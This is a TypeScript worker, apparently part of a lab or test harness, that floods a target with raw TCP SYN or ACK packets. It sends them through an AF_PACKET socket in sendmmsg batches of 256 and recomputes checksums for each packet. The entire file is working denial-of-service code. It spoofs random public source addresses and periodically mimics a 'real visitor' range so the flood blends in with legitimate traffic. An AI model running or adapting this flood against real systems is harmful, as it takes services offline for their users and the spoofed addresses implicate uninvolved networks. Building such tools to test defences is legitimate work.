// Sends TCP packets as fast as it can through an AF_PACKET socket, thousands with one system call.
// Started by flood.ts inside the attackers' namespace, with JSON: SendOrder. Ends by itself.
import { randomInt } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { parseArgs } from 'node:util';
import koffi from 'koffi';

export interface SendOrder {
  readonly interface: string;
  /** Of the other end of the cable: `02:00:00:00:00:01`. */
  readonly toMac: string;
  readonly toAddress: string;
  readonly toPort: number;
  /** A single source; '' for addresses made up anew for each packet. */
  readonly fromAddress: string;
  /** Every so many packets, one bears an address of this /16 (`30.101`): that of a real visitor. */
  readonly spoofedVisitors: string;
  readonly kind: 'syn' | 'ack';
  readonly seconds: number;
  /** 0: as many as it can. */
  readonly packetsPerSecond: number;
}

const AF_PACKET = 17;
const SOCK_RAW = 3;
const SOL_PACKET = 263;
const PACKET_QDISC_BYPASS = 20;
const MESSAGE_BYTES = 64;
const VECTOR_BYTES = 16;
const FRAME_BYTES = 58;
const BATCH = 256;
const SECONDS_MAX = 20;
const VISITOR_EVERY = 64;

const ETHERNET = 14;
const TCP = ETHERNET + 20;
const FLAG_SYN = 0x02;
const FLAG_ACK = 0x10;

const { positionals } = parseArgs({ allowPositionals: true });
const order = JSON.parse(positionals[0]!) as SendOrder;

const libc = koffi.load('libc.so.6');
const openSocket = libc.func('int socket(int, int, int)') as (...args: number[]) => number;
const setOption = libc.func('int setsockopt(int, int, int, void *, uint32_t)');
const bindSocket = libc.func('int bind(int, void *, uint32_t)');
const sendMany = libc.func('int sendmmsg(int, void *, uint32_t, int)');

const socket = openOnInterface(order.interface);
const frames = allocate(BATCH * FRAME_BYTES);
const messages = allocate(BATCH * MESSAGE_BYTES);
const vectors = allocate(BATCH * VECTOR_BYTES);
const view = new DataView(frames.memory);
for (let index = 0; index < BATCH; index++) {
  writeFrame(index * FRAME_BYTES);
  const vector = Buffer.from(vectors.memory, index * VECTOR_BYTES, VECTOR_BYTES);
  vector.writeBigUInt64LE(frames.address + BigInt(index * FRAME_BYTES), 0);
  vector.writeBigUInt64LE(BigInt(FRAME_BYTES), 8);
  const message = Buffer.from(messages.memory, index * MESSAGE_BYTES, MESSAGE_BYTES);
  message.writeBigUInt64LE(vectors.address + BigInt(index * VECTOR_BYTES), 16);
  message.writeBigUInt64LE(1n, 24);
}

const endMs = performance.now() + Math.min(order.seconds, SECONDS_MAX) * 1000;
const startMs = performance.now();
const clock = new Int32Array(new SharedArrayBuffer(4));
let seed = randomInt(1, 2 ** 31);
let sent = 0;
while (performance.now() < endMs) {
  for (let index = 0; index < BATCH; index++) renew(index * FRAME_BYTES, sent + index);
  const count = sendMany(socket, messages.pointer, BATCH, 0) as number;
  if (count > 0) sent += count;
  if (order.packetsPerSecond === 0) continue;
  const dueMs = startMs + (sent * 1000) / order.packetsPerSecond;
  const waitMs = dueMs - performance.now();
  if (waitMs > 0) Atomics.wait(clock, 0, 0, waitMs);
}
process.send?.({ sent, ms: performance.now() - startMs });
process.disconnect?.();

function allocate(bytes: number): {
  readonly pointer: unknown;
  readonly memory: ArrayBuffer;
  readonly address: bigint;
} {
  const pointer: unknown = koffi.alloc('uint8_t', bytes);
  return { pointer, memory: koffi.view(pointer, bytes), address: koffi.address(pointer) };
}

function openOnInterface(name: string): number {
  // No protocol: it sends, and is handed nothing of what arrives.
  const handle = openSocket(AF_PACKET, SOCK_RAW, 0);
  if (handle < 0) throw new Error('no packet socket: not root?');
  const one = Buffer.alloc(4);
  one.writeInt32LE(1);
  setOption(handle, SOL_PACKET, PACKET_QDISC_BYPASS, one, 4);
  const address = Buffer.alloc(20);
  address.writeUInt16LE(AF_PACKET, 0);
  address.writeInt32LE(Number(readFileSync(`/sys/class/net/${name}/ifindex`, 'latin1')), 4);
  if ((bindSocket(handle, address, address.length) as number) < 0) throw new Error('cannot bind');
  return handle;
}

function writeFrame(at: number): void {
  const frame = Buffer.from(frames.memory, at, FRAME_BYTES);
  const own = readFileSync(`/sys/class/net/${order.interface}/address`, 'latin1').trim();
  frame.write((order.toMac + own).replaceAll(':', ''), 0, 'hex');
  frame.writeUInt16BE(0x0800, 12);
  frame.writeUInt16BE(0x4500, ETHERNET);
  frame.writeUInt16BE(FRAME_BYTES - ETHERNET, ETHERNET + 2);
  frame.writeUInt8(64, ETHERNET + 8);
  frame.writeUInt8(6, ETHERNET + 9);
  frame.writeUInt32BE(numberOf(order.toAddress), ETHERNET + 16);
  frame.writeUInt16BE(order.toPort, TCP + 2);
  frame.writeUInt8(6 << 4, TCP + 12);
  frame.writeUInt8(order.kind === 'syn' ? FLAG_SYN : FLAG_ACK, TCP + 13);
  frame.writeUInt16BE(64_240, TCP + 14);
  // Maximum segment size 1460.
  frame.writeUInt32BE(0x020405b4, TCP + 20);
}

/** Another source, port and sequence number, and the checksums that go with them. */
function renew(at: number, count: number): void {
  view.setUint32(at + ETHERNET + 12, source(count));
  view.setUint16(at + TCP, 1024 + (random() % 64_000));
  view.setUint32(at + TCP + 4, random());
  if (order.kind === 'ack') view.setUint32(at + TCP + 8, random());
  view.setUint16(at + ETHERNET + 10, 0);
  view.setUint16(at + ETHERNET + 10, ~fold(sum(at + ETHERNET, 20)) & 0xffff);
  view.setUint16(at + TCP + 16, 0);
  const segment = FRAME_BYTES - TCP;
  const total = sum(at + ETHERNET + 12, 8) + 6 + segment + sum(at + TCP, segment);
  view.setUint16(at + TCP + 16, ~fold(total) & 0xffff);
}

function source(count: number): number {
  if (order.fromAddress !== '') return numberOf(order.fromAddress);
  if (order.spoofedVisitors !== '' && count % VISITOR_EVERY === 0) {
    return numberOf(`${order.spoofedVisitors}.${random() & 255}.${random() & 255}`);
  }
  // 11.0.0.0 to 126.255.255.255: no private network, no loopback.
  return ((11 + (random() % 116)) * 2 ** 24 + (random() & 0xffffff)) >>> 0;
}

/** xorshift32: good enough for addresses, and fast. */
function random(): number {
  seed ^= seed << 13;
  seed ^= seed >>> 17;
  seed ^= seed << 5;
  return seed >>> 0;
}

function sum(from: number, bytes: number): number {
  let total = 0;
  for (let at = from; at < from + bytes; at += 2) total += view.getUint16(at);
  return total;
}

function fold(total: number): number {
  let rest = total;
  while (rest > 0xffff) rest = (rest & 0xffff) + Math.floor(rest / 0x10000);
  return rest;
}

function numberOf(address: string): number {
  return address.split('.').reduce((number, part) => number * 256 + Number(part), 0);
}
